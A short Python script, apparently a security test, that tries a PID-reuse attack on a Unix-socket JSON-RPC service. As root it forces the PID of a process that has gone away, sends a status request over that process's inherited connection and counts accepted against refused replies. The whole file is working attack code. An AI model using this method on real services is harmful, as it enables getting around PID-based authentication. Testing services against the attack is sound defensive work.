"""Speak on a connection whose owner is gone, from a process that has got the owner's number. Root, to force the number.

pid_reuse.py SOCKET TRIES     prints {"forced": …, "accepted": …, "refused": …} as JSON

"""

import json
import os
import socket
import struct
import sys
from pathlib import Path

LAST = Path("/proc/sys/kernel/ns_last_pid")
TEXT = json.dumps({"id": 7, "method": "status", "params": {}}).encode()


def ask(sock):
    """Return "accepted", or "refused"."""
    try:
        sock.settimeout(10)
        sock.sendall(struct.pack(">II", len(TEXT), 0) + TEXT)
        answer = b""
        while part := sock.recv(65536):
            answer += part
            if b'"result"' in answer:
                return "accepted"
            if b'"error"' in answer:
                return "refused"
    except OSError:
        pass
    return "refused"


def heir(sock, wanted, report):
    for _ in range(50):
        LAST.write_text(str(wanted - 1))
        child = os.fork()
        if child == 0:
            if os.getpid() == wanted:
                os.write(report, ask(sock).encode() + b"\n")
            os._exit(0)
        os.waitpid(child, 0)
        if child == wanted:
            return
    os.write(report, b"not forced\n")


def attempt(address):
    reading, report = os.pipe()
    owner = os.fork()
    if owner == 0:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(address)
        mine, gone = os.getpid(), os.pipe()
        if os.fork() == 0:
            os.close(gone[1])
            os.read(gone[0], 1)  # until the owner has ended
            while Path(f"/proc/{mine}").exists():
                pass  # and was reaped
            heir(sock, mine, report)
        os._exit(0)
    os.close(report)
    os.waitpid(owner, 0)
    said = b""
    while part := os.read(reading, 100):
        said += part
    os.close(reading)
    return said.decode().strip()


def main():
    said = [attempt(sys.argv[1]) for _ in range(int(sys.argv[2]))]
    accepted, refused = said.count("accepted"), said.count("refused")
    print(json.dumps({"forced": accepted + refused, "accepted": accepted, "refused": refused}))


main()
